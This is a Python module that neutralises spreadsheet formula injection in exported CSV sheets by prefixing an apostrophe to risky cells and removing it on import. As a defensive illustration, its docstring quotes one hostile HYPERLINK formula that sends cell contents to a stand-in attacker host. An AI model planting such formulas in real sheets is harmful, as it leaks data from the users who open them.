"""Cells a spreadsheet would run as a formula, made inert for the sheets we hand out.

A cell that starts with = + - @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1, "Click")`),
even in a CSV file. Feed and staff text may start that way, so the bulk export puts
an apostrophe in front — what the programs themselves use to mean "this is text" —
and the bulk import takes it off again, so an exported sheet reads back as it was.

    guard("=1+1") == "'=1+1"      unguard("'=1+1") == "=1+1"
    guard("+44 1632 960579") == "'+44 1632 960579"   (a phone number stays text, too)
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def guard(cell: str) -> str:
    return GUARD + cell if cell.startswith(FORMULA_STARTS) else cell


def unguard(cell: str) -> str:
    """Only an apostrophe that `guard` could have added goes: "'tis" stays as it is."""
    return cell[1:] if cell.startswith(GUARD) and cell[1:].startswith(FORMULA_STARTS) else cell


def unguard_all(value: object) -> object:
    """`unguard` on every text inside a record read from a sheet (dicts and lists of cells)."""
    if isinstance(value, str):
        return unguard(value)
    if isinstance(value, dict):
        return {key: unguard_all(item) for key, item in value.items()}
    if isinstance(value, list):
        return [unguard_all(item) for item in value]
    return value
